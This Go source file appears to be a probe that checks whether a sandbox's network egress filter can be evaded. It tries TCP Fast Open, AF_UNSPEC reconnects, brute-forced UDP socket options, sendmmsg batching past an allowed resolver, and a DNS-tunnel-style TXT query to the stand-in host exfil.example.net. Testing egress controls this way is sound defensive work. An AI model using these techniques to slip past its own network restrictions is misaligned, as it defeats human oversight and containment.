package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// setup prepares a socket.
type setup func(fd int) error

func option(level, name, value int) setup {
	return func(fd int) error { return unix.SetsockoptInt(fd, level, name, value) }
}

func boundTo(a netip.AddrPort) setup {
	return func(fd int) error { return unix.Bind(fd, sockaddr(a)) }
}

// tolerated makes a setup that may fail: whether it works is not the question, what comes after is.
func tolerated(s setup) setup {
	return func(fd int) error {
		s(fd)
		return nil
	}
}

func toDevice(fd int) error { return unix.BindToDevice(fd, "lo") }

// with runs use on a new socket and says what it said, or the errno by name.
func with(family, kind, protocol int, use func(fd int) (string, error), setups ...setup) string {
	fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, protocol)
	if err != nil {
		return "socket: " + errno(err)
	}
	defer unix.Close(fd)
	limit := unix.NsecToTimeval(int64(3 * time.Second))
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &limit)
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &limit)
	for _, s := range setups {
		if err := s(fd); err != nil {
			return "setup: " + errno(err)
		}
	}
	said, err := use(fd)
	if err != nil {
		return errno(err)
	}
	return said
}

func errno(err error) string {
	var e unix.Errno
	if errors.As(err, &e) {
		return unix.ErrnoName(e)
	}
	return err.Error()
}

func sockaddr(a netip.AddrPort) unix.Sockaddr {
	if a.Addr().Is4() {
		return &unix.SockaddrInet4{Addr: a.Addr().As4(), Port: int(a.Port())}
	}
	return &unix.SockaddrInet6{Addr: a.Addr().As16(), Port: int(a.Port())}
}

func addressOf(sa unix.Sockaddr) netip.AddrPort {
	switch sa := sa.(type) {
	case *unix.SockaddrInet4:
		return netip.AddrPortFrom(netip.AddrFrom4(sa.Addr), uint16(sa.Port))
	case *unix.SockaddrInet6:
		return netip.AddrPortFrom(netip.AddrFrom16(sa.Addr), uint16(sa.Port))
	}
	return netip.AddrPort{}
}

// tcp connects and talks.
func (p *probe) tcp(family int, to netip.AddrPort, setups ...setup) func() string {
	return func() string {
		return with(family, unix.SOCK_STREAM, 0, func(fd int) (string, error) {
			if err := unix.Connect(fd, sockaddr(to)); err != nil {
				return cut(err)
			}
			return p.talk(fd, to)
		}, setups...)
	}
}

// talk sends the marker over a connection and says what became of it. A proxy that refuses resets.
func (p *probe) talk(fd int, to netip.AddrPort) (string, error) {
	peer, err := unix.Getpeername(fd)
	switch {
	case err == unix.ENOTCONN:
		return "reset", nil // already
	case err != nil:
		return "", fmt.Errorf("getpeername: %w", err)
	case addressOf(peer) != to:
		return fmt.Sprintf("peer %v", addressOf(peer)), nil
	}
	if err := unix.Sendto(fd, p.payload, unix.MSG_NOSIGNAL, nil); err != nil {
		return cut(err)
	}
	return p.read(fd)
}

func (p *probe) read(fd int) (string, error) {
	b := make([]byte, 256)
	n, err := unix.Read(fd, b)
	switch {
	case err != nil:
		return cut(err)
	case n == 0:
		return "closed", nil
	}
	return fmt.Sprintf("answer %q", b[:n]), nil
}

// cut words the end of a connection from the other side.
func cut(err error) (string, error) {
	if err == unix.ECONNRESET || err == unix.EPIPE {
		return "reset", nil
	}
	return "", err
}

func (p *probe) fastOpenConnect(to netip.AddrPort) func() string {
	return p.tcp(unix.AF_INET, to, tolerated(option(unix.SOL_TCP, unix.TCP_FASTOPEN_CONNECT, 1)))
}

func (p *probe) fastOpenSend(family int, to netip.AddrPort) func() string {
	return func() string {
		return with(family, unix.SOCK_STREAM, 0, func(fd int) (string, error) {
			err := unix.Sendto(fd, p.payload, unix.MSG_FASTOPEN|unix.MSG_NOSIGNAL, sockaddr(to))
			if err != nil && err != unix.EINPROGRESS { // gVisor's answer to it
				return cut(err)
			}
			writable(fd)
			return p.talk(fd, to)
		})
	}
}

func writable(fd int) {
	unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}, 3000)
}

func (p *probe) nonBlocking(to netip.AddrPort) func() string {
	return func() string {
		return with(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0, func(fd int) (string, error) {
			if err := unix.Connect(fd, sockaddr(to)); err != nil && err != unix.EINPROGRESS {
				return "", err
			}
			writable(fd)
			if e, _ := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ERROR); e != 0 {
				return cut(unix.Errno(e))
			}
			unix.SetNonblock(fd, false)
			return p.talk(fd, to)
		})
	}
}

// again connects to first, dissolves the connection and connects the same socket to then.
func (p *probe) again(first, then netip.AddrPort) func() string {
	return func() string {
		return with(unix.AF_INET, unix.SOCK_STREAM, 0, func(fd int) (string, error) {
			if err := unix.Connect(fd, sockaddr(first)); err != nil {
				return "", fmt.Errorf("first: %w", err)
			}
			if err := dissolve(fd); err != nil {
				return "", fmt.Errorf("dissolve: %w", err)
			}
			if err := unix.Connect(fd, sockaddr(then)); err != nil {
				return "", err
			}
			return p.talk(fd, then)
		})
	}
}

// x/sys makes no address of family AF_UNSPEC, so these are system calls by hand.

func unspec(a netip.AddrPort) [16]byte {
	var sa [16]byte
	binary.BigEndian.PutUint16(sa[2:], a.Port())
	copy(sa[4:], a.Addr().AsSlice())
	return sa
}

// dissolve ends fd's connection and leaves the socket usable (connect(2)).
func dissolve(fd int) error {
	sa := unspec(netip.AddrPortFrom(netip.IPv4Unspecified(), 0))
	if _, _, e := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&sa)), 16); e != 0 {
		return e
	}
	return nil
}

func (p *probe) sendUnspec(to netip.AddrPort) func() string {
	return p.datagram(unix.AF_INET, func(fd int) error {
		sa := unspec(to)
		_, _, e := unix.Syscall6(unix.SYS_SENDTO, uintptr(fd), uintptr(unsafe.Pointer(&p.payload[0])), uintptr(len(p.payload)), 0, uintptr(unsafe.Pointer(&sa)), 16)
		if e != 0 {
			return e
		}
		return nil
	})
}

// datagram makes a UDP socket and says whether send succeeded.
func (p *probe) datagram(family int, send func(fd int) error, setups ...setup) func() string {
	return func() string {
		return with(family, unix.SOCK_DGRAM, 0, func(fd int) (string, error) { return "sent", send(fd) }, setups...)
	}
}

func (p *probe) udp(family int, to netip.AddrPort, setups ...setup) func() string {
	return p.datagram(family, func(fd int) error { return unix.Sendto(fd, p.payload, 0, sockaddr(to)) }, setups...)
}

func (p *probe) udpConnected(family int, to netip.AddrPort) func() string {
	return p.datagram(family, func(fd int) error {
		if err := unix.Connect(fd, sockaddr(to)); err != nil {
			return err
		}
		_, err := unix.Write(fd, p.payload)
		return err
	})
}

// udpOptions sends from sockets each of which has another option set, also those that nobody knows by name. Its
// answer is the first that is another than EPERM.
func (p *probe) udpOptions(family int, to netip.AddrPort) func() string {
	return func() string {
		for _, level := range []int{unix.SOL_SOCKET, unix.SOL_IP, unix.SOL_IPV6, unix.SOL_UDP} {
			for name := range 256 {
				if got := p.udp(family, to, tolerated(option(level, name, 1)))(); got != "EPERM" {
					return fmt.Sprintf("option %d of level %d: %s", name, level, got)
				}
			}
		}
		return "EPERM"
	}
}

// udpMore sends in two parts, the second of which makes the packet.
func (p *probe) udpMore(to netip.AddrPort) func() string {
	return p.datagram(unix.AF_INET, func(fd int) error {
		if err := unix.Sendto(fd, p.payload, unix.MSG_MORE, sockaddr(to)); err != nil {
			return err
		}
		return unix.Sendto(fd, p.payload, 0, sockaddr(to))
	})
}

// udpControl sends with ancillary data that names the link to leave by.
func (p *probe) udpControl(family int, to netip.AddrPort) func() string {
	control := unix.PktInfo4(&unix.Inet4Pktinfo{Ifindex: 1})
	if family == unix.AF_INET6 {
		control = unix.PktInfo6(&unix.Inet6Pktinfo{Ifindex: 1})
	}
	return p.datagram(family, func(fd int) error { return unix.Sendmsg(fd, p.payload, control, sockaddr(to), 0) })
}

// udpThen connects to a resolver, which is allowed, and sends elsewhere.
func (p *probe) udpThen(first, to netip.AddrPort) func() string {
	return p.datagram(unix.AF_INET, func(fd int) error {
		if err := unix.Connect(fd, sockaddr(first)); err != nil {
			return fmt.Errorf("connect: %w", err)
		}
		return unix.Sendto(fd, p.payload, 0, sockaddr(to))
	})
}

// mmsghdr is of sendmmsg(2).
type mmsghdr struct {
	hdr unix.Msghdr
	len uint32
	_   [4]byte
}

// udpMany sends to a resolver and elsewhere with one system call; the second must not ride along.
func (p *probe) udpMany(first, to netip.AddrPort) func() string {
	return p.datagram(unix.AF_INET, func(fd int) error {
		var names [2]unix.RawSockaddrInet4
		iov := unix.Iovec{Base: &p.payload[0]}
		iov.SetLen(len(p.payload))
		var messages [2]mmsghdr
		for i, a := range []netip.AddrPort{first, to} {
			names[i] = unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: a.Addr().As4()}
			binary.BigEndian.PutUint16((*[2]byte)(unsafe.Pointer(&names[i].Port))[:], a.Port())
			messages[i].hdr = unix.Msghdr{Name: (*byte)(unsafe.Pointer(&names[i])), Namelen: unix.SizeofSockaddrInet4, Iov: &iov, Iovlen: 1}
		}
		n, _, e := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&messages)), 2, 0, 0, 0)
		switch {
		case e != 0:
			return e
		case n == 1:
			return unix.EPERM // the first is a lookup, the second stayed
		}
		return nil
	})
}

// resolve asks the resolver at to for a TXT record whose name has the marker, as tunnels do, and says how
// it answered: its code and how many records it gave.
func (p *probe) resolve(family, kind int, to netip.AddrPort) func() string {
	return func() string {
		return with(family, kind, 0, func(fd int) (string, error) {
			if err := unix.Connect(fd, sockaddr(to)); err != nil {
				return "", err
			}
			return p.exchange(fd, kind == unix.SOCK_STREAM)
		})
	}
}

func (p *probe) exchange(fd int, stream bool) (string, error) {
	question := p.question()
	if stream {
		question = append(binary.BigEndian.AppendUint16(nil, uint16(len(question))), question...)
	}
	if _, err := unix.Write(fd, question); err != nil {
		return "", err
	}
	b := make([]byte, 2048)
	n, err := unix.Read(fd, b)
	if err != nil {
		return "", fmt.Errorf("read: %w", err)
	}
	b = b[:n]
	if stream && n > 2 {
		b = b[2:]
	}
	if len(b) < 12 {
		return fmt.Sprintf("%d bytes", len(b)), nil
	}
	return fmt.Sprintf("code %d, %d records", b[3]&15, binary.BigEndian.Uint16(b[6:])), nil
}

// question is a TXT query (RFC 1035, 4.1) for MARKER.exfil.example.net.
func (p *probe) question() []byte {
	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range []string{p.marker, "exfil", "example", "net"} {
		q = append(append(q, byte(len(label))), label...)
	}
	return append(q, 0, 0, 16, 0, 1)
}
